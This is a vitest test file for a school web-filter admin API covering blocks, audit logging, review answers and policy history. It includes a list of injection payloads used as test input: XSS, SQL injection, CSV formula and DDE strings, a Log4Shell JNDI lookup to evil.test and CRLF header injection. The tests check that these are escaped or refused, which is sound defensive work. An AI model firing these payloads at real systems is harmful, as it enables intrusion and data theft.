/** Blocks, requests and the questions about them: what is answered, and what stands on the audit trail before it is. */
import { afterEach, describe, expect, test } from 'vitest';
import { freshFolder } from '../../store/folder.ts';
import { openHouse, people } from './house.ts';
import type { Client, House } from './house.ts';

const fresh = freshFolder();
const open: House[] = [];
afterEach(async () => {
  await Promise.all(open.splice(0).map((house) => house.close()));
});
async function start(): Promise<House> {
  const house = await openHouse({ folder: fresh() });
  open.push(house);
  return house;
}
const whose = ({ key, login, name }: { key: string; login: string; name: string }) => ({ key, login, name });
const student = whose(people.student);
type Page = {
  readonly items: readonly { readonly id: string; readonly host: string }[];
  readonly next: string | null;
};
const list = async (client: Client, query = ''): Promise<Page> =>
  (await client.ask(`/api/blocks${query}`)).json as unknown as Page;

describe('the list of blocks', () => {
  test('comes by pages, the newest first, each block once', async () => {
    const house = await start();
    const ids = house.write(
      ...Array.from({ length: 7 }, (_, n) => ({ at: 1_000 * n, person: student, schools: ['north'] })),
    );
    const client = await house.signIn('cto');
    const seen: string[] = [];
    for (let query = '?limit=3'; ;) {
      const { items, next } = await list(client, query);
      seen.push(...items.map(({ id }) => id));
      if (next === null) break;
      query = `?limit=3&cursor=${next}`;
    }
    expect(seen).toEqual(ids.reverse());
  });

  test.each([
    ['?limit=0', /limit/],
    ['?limit=1000', /limit/],
    ['?from=yesterday', /from/],
    ['?host=a&host=b', /host/],
    ['?nonsense=1', /nonsense/],
    ['?cursor=%27%20OR%201', /cursor/],
    ['?__proto__=1', /__proto__/],
    ['?action=explode', /action/],
  ])('%s is refused in words', async (query, says) => {
    const house = await start();
    const reply = await (await house.signIn('cto')).ask(`/api/blocks${query}`);
    expect(reply.status).toBe(400);
    expect(reply.text).toMatch(says);
    expect((await house.acts()).at(-1)?.action).toBe('session.begin');
  });

  test('is on the audit trail, with everyone whom the page names, before it is sent', async () => {
    const house = await start();
    house.write(
      { person: student, schools: ['north'] },
      { person: whose(people.otherStudent), schools: ['south'] },
    );
    await (await house.signIn('principal.north')).ask('/api/blocks?person=student.n&host=games.demo.test');
    expect((await house.acts()).at(-1)).toMatchObject({
      ...{ action: 'blocks.view', actor: people.principal.key, subject: 'student.n' },
      detail: { host: 'games.demo.test', people: student.key },
    });
    const about = [];
    for await (const entry of house.repository.audit.entries({ subject: student.key })) about.push(entry);
    expect(about).toHaveLength(1);
  });

  test('is not sent when the audit trail cannot be written', async () => {
    const house = await start();
    house.write({ person: student, schools: ['north'] });
    const client = await house.signIn('cto');
    house.repository.recordAct = () => Promise.reject(new Error('disk full'));
    for (const path of ['/api/blocks', '/api/blocks.csv', '/api/people?login=student.n']) {
      const reply = await client.ask(path);
      expect(reply.status).toBe(500);
      expect(reply.text).not.toContain('student');
    }
  });
});

describe('one block', () => {
  test('comes with the rule in words and the clause as it was adopted then', async () => {
    const house = await start();
    const clause = {
      id: 'games',
      number: '4.2',
      title: 'Games',
      text: 'As it was then.',
      adopted: '2026-06-01',
    };
    const [id = ''] = house.write({ person: student, schools: ['north'], rule: 'games', clause });
    const reply = await (await house.signIn('cto')).ask(`/api/blocks/${id}`);
    expect(reply.json).toMatchObject({
      block: { id, user: 'student.n' },
      rule: { title: 'Games' },
      clause: { id: 'games', text: 'As it was then.' },
      retrace: { state: 'gone' },
    });
    expect((await house.acts()).at(-1)).toMatchObject({ action: 'blocks.view', subject: student.key });
  });

  test.each([
    ['closed-now', 'Closed now', /^Somebody in charge closed/],
    ['default', 'Everything else', /^Everything else is open\.$/],
    ['long-gone', 'long-gone (not in this policy)', /another version had it/],
  ])('by the rule `%s` has it in words, as has Today', async (rule, title, says) => {
    const house = await start();
    const [id = ''] = house.write({ person: student, schools: ['north'], rule, clause: null });
    const client = await house.signIn('cto');
    const { json } = await client.ask(`/api/blocks/${id}`);
    expect(json['rule']).toMatchObject({ title, sentence: expect.stringMatching(says) as string });
    const { blocks } = (await client.ask('/api/today')).json as { blocks: { byRule: unknown } };
    expect(blocks.byRule).toEqual([{ of: rule, count: 1, title }]);
  });

  test('that is not there is told in words', async () => {
    const house = await start();
    const client = await house.signIn('cto');
    for (const id of ['nothing', '%27%20OR%201%3D1', '..%2f..', 'x'.repeat(64)])
      expect((await client.ask(`/api/blocks/${id}`)).status).toBe(404);
    expect((await client.ask(`/api/blocks/${'x'.repeat(65)}`)).status).toBe(400);
  });
});

const hostile = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  "'; DROP TABLE records; --",
  '=HYPERLINK("http://evil.test","x")',
  '+1+1',
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  'a\r\nSet-Cookie: x=1',
  '${jndi:ldap://evil.test/a}',
  '\u202egnp.exe',
];

describe.each(hostile)('%j', (payload) => {
  test('is text: in the list, in the detail, in CSV and on the audit trail', async () => {
    const house = await start();
    const odd = { key: 'key-odd', login: payload.toLowerCase(), name: payload };
    const [id = ''] = house.write({
      ...{ person: odd, schools: [payload], url: `http://evil.test/${payload}`, rule: 'games' },
    });
    const client = await house.signIn('cto');
    for (const path of ['/api/blocks', `/api/blocks/${id}`]) {
      const reply = await client.ask(path);
      expect(reply.status).toBe(200);
      expect(reply.headers['content-type']).toMatch(/^application\/json/);
      expect(reply.headers['x-content-type-options']).toBe('nosniff');
      expect(reply.headers['set-cookie']).toBeUndefined();
    }
    const csv = await client.ask('/api/blocks.csv');
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toMatch(/^attachment/);
    for (const cell of csv.text.split(/[,\n]/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[\t\r]*[=+@-]./);
    const asked = await client.ask(
      `/api/blocks?school=${encodeURIComponent(payload)}&person=${encodeURIComponent(payload)}`,
    );
    expect((asked.json['items'] as unknown[]).length).toBe(1);
    expect(await house.repository.audit.verify()).toMatchObject({ findings: [] });
  });

  test('as login, password or name of a browser signs nobody in, and is no header', async () => {
    const house = await start();
    const tried = await house.ask('/api/session', {
      ...{ method: 'POST', body: { login: payload, password: payload } },
    });
    expect(tried.status).toBe(401);
    const agent = payload.replace(/[^\x20-\x7e]/g, '');
    const reply = await house.ask('/api/session', {
      method: 'POST',
      body: { login: 'cto', password: 'demo-cto' },
      headers: { 'user-agent': agent },
    });
    expect(reply.status).toBe(201);
    const client = await house.signIn('cto');
    const sessions = await client.ask('/api/sessions');
    expect(sessions.headers['content-type']).toMatch(/^application\/json/);
  });
});

describe('a request for a review', () => {
  async function asked(house: House, url = 'http://games.demo.test/') {
    const [record = ''] = house.write({ person: student, schools: ['north'], url, rule: 'games' });
    const review = { id: 'v-1', record, subject: student.key, at: house.state.now, kind: 'needed' } as const;
    await house.repository.acts.addReview(
      { ...review, text: 'for the chess club', host: 'games.demo.test', rule: 'games' },
      { nonce: 'n', expires: 0 },
    );
    return house.signIn('principal.north');
  }
  const send = (client: Client, etag: string, body: object) =>
    client.ask('/api/reviews/v-1/answer', { method: 'POST', body, headers: { 'if-match': etag } });

  test('is answered once, by who has seen its state; the person reads it, and it stands on the trail', async () => {
    const house = await start();
    const client = await asked(house);
    const { headers, json } = await client.ask('/api/reviews/v-1');
    expect(json).toMatchObject({ text: 'for the chess club', answer: null, record: { user: 'student.n' } });
    const etag = String(headers['etag']);
    const without = await client.ask('/api/reviews/v-1/answer', {
      ...{ method: 'POST', body: { outcome: 'kept', note: 'After school.' } },
    });
    expect(without.status).toBe(428);
    const answered = await send(client, etag, { outcome: 'kept', note: ' After school. ' });
    expect(answered).toMatchObject({
      ...{ status: 201, json: { answer: { by: 'principal.north', outcome: 'kept', note: 'After school.' } } },
    });
    expect((await send(client, etag, { outcome: 'kept', note: 'again' })).status).toBe(412);
    expect((await house.repository.acts.reviewsOf(student.key))[0]?.answer).toMatchObject({
      outcome: 'kept',
    });
    expect((await house.acts()).map(({ action }) => action)).toContain('reviews.answer');
  });

  test('is not told to be opened while it is closed', async () => {
    const house = await start();
    house.state.now = Date.UTC(2026, 8, 1, 14);
    const client = await asked(house);
    const etag = String((await client.ask('/api/reviews/v-1')).headers['etag']);
    const reply = await send(client, etag, { outcome: 'opened', note: 'Go on.' });
    expect(reply).toMatchObject({ status: 409, json: { code: 'still-closed' } });
    expect((await house.repository.acts.reviewsOf(student.key))[0]?.answer).toBeNull();
  });

  test('is told to be opened when it is open', async () => {
    const house = await start();
    const client = await asked(house, 'http://library.demo.test/');
    const etag = String((await client.ask('/api/reviews/v-1')).headers['etag']);
    expect((await send(client, etag, { outcome: 'opened', note: 'It is open.' })).status).toBe(201);
  });

  test.each([{ outcome: 'kept', note: '   ' }, { outcome: 'maybe', note: 'x' }, { note: 'x' }, {}])(
    'is not answered by %j',
    async (body) => {
      const house = await start();
      const client = await asked(house);
      expect((await send(client, '"x"', body)).status).toBe(400);
    },
  );
});

test('traffic by school is summed over the hour, and a principal sees that of their own', async () => {
  const house = await start();
  const minute = (at: number, schools: Record<string, number>) => ({ at, requests: 9, blocks: 1, schools });
  house.state.traffic = [minute(0, { north: 3, south: 1 }), minute(60_000, { north: 2, south: 9 })];
  const shown = async (login: string) =>
    (await (await house.signIn(login)).ask('/api/today')).json['trafficBySchool'];
  expect(await shown('cto')).toEqual([
    { of: 'south', count: 10 },
    { of: 'north', count: 5 },
  ]);
  expect(await shown('principal.north')).toEqual([{ of: 'north', count: 5 }]);
  expect(await shown('helpdesk')).toHaveLength(2);
});

test('where no network of the policy names a school, Today says so', async () => {
  const house = await start();
  const client = await house.signIn('cto');
  const today = async () => (await client.ask('/api/today')).json;
  expect(await today()).toMatchObject({ trafficBySchool: [], schoolNetworks: false });
  const { policy, aup } = house.state.documents;
  const line = '    unidentified: grades-6-8\n';
  house.state.documents = { policy: policy.replace(line, `${line}    schools: [north]\n`), aup };
  expect(await today()).toMatchObject({ trafficBySchool: [], schoolNetworks: true });
});

describe('the policy', () => {
  test('is in words beside its clauses, and known by its edition', async () => {
    const house = await start();
    const client = await house.signIn('auditor');
    const reply = await client.ask('/api/policy');
    const { rules, aup } = reply.json as unknown as {
      rules: { id: string; sentence: string; tier: string }[];
      aup: { clauses: { id: string; rules: string[] }[] };
    };
    expect(rules.map(({ tier }) => tier).filter((tier, i, all) => tier !== all[i - 1])).toEqual([
      ...['crisis', 'testing', 'locked', 'ordered', 'default'],
    ]);
    expect(rules.find(({ id }) => id === 'adult')?.sentence).toBe('Nobody may open “Adult content”.');
    expect(aup.clauses.find(({ id }) => id === 'games')?.rules).toContain('games');
    const etag = String(reply.headers['etag']);
    const again = await client.ask('/api/policy', { headers: { 'if-none-match': etag } });
    expect(again).toMatchObject({ status: 304, text: '' });
  });

  test('has a history, whose documents are as they were published', async () => {
    const house = await start();
    const client = await house.signIn('auditor');
    const { items } = (await client.ask('/api/policy/versions')).json as {
      items: { policyVersion: string; current: boolean; by: string }[];
    };
    expect(items).toMatchObject([{ current: true, by: 'tests', note: 'first' }]);
    const documents = await client.ask(`/api/policy/versions/${items[0]?.policyVersion ?? ''}`);
    expect(String(documents.json['policy'])).toContain('hallpass: 1');
    expect((await client.ask('/api/policy/versions/p-0')).status).toBe(404);
  });
});

describe('why', () => {
  const why = (client: Client, body: object) => client.ask('/api/why', { method: 'POST', body });

  test('is answered in words for a person at a time, and is on the trail without the path', async () => {
    const house = await start();
    const client = await house.signIn('cto');
    const { json } = await why(client, {
      ...{ url: 'http://games.demo.test/secret?q=1', person: 'student.n', at: '2026-09-01T10:00:00-04:00' },
    });
    expect(json).toMatchObject({
      ...{ action: 'block', rule: 'games', says: 'Person student.n is not let through to games.demo.test.' },
      ...{ clause: { id: 'games' }, person: { login: 'student.n', audience: 'Grades 6 to 8' } },
    });
    const last = (await house.acts()).at(-1);
    expect(last).toMatchObject({
      action: 'why.ask',
      subject: student.key,
      detail: { host: 'games.demo.test' },
    });
    expect(JSON.stringify(last)).not.toContain('secret');
  });

  test('says first that somebody would be asked who they are', async () => {
    const house = await start();
    const { json } = await why(await house.signIn('teacher.north'), { url: 'http://games.demo.test/' });
    expect(json['says']).toMatch(/^First they are asked to sign in\./);
  });

  test.each(['ftp://x.test/', 'http://', 'javascript:alert(1)', 'http://a b/', 'http://x.test:99999/'])(
    'is not answered for %j',
    async (url) => {
      const house = await start();
      expect((await why(await house.signIn('cto'), { url })).status).toBe(400);
    },
  );

  test.each([
    ['0000-01-01T00:00:00Z', 400],
    ['1969-12-31T23:59:59Z', 400],
    ['9999-12-31T23:59:59-23:59', 400],
    ['1970-01-01T00:00:00Z', 200],
    ['9998-12-31T23:59:59Z', 200],
  ])('is answered for times that have a date in every zone: %s', async (at, status) => {
    const house = await start();
    const reply = await why(await house.signIn('cto'), { url: 'http://games.demo.test/', at });
    expect(reply.status).toBe(status);
    if (status === 400) expect(JSON.stringify(reply.json)).toContain('not within the years 1970 to 9998');
  });

  test('says who a login is, and by what each audience', async () => {
    const house = await start();
    const { json } = await (await house.signIn('helpdesk')).ask('/api/people?login=student.n');
    expect(json).toMatchObject({
      ...{ name: 'Person student.n', schools: ['north'], voice: 'student' },
      audiences: [{ name: 'grades-6-8', because: 'in group students-6-8' }],
    });
  });
});
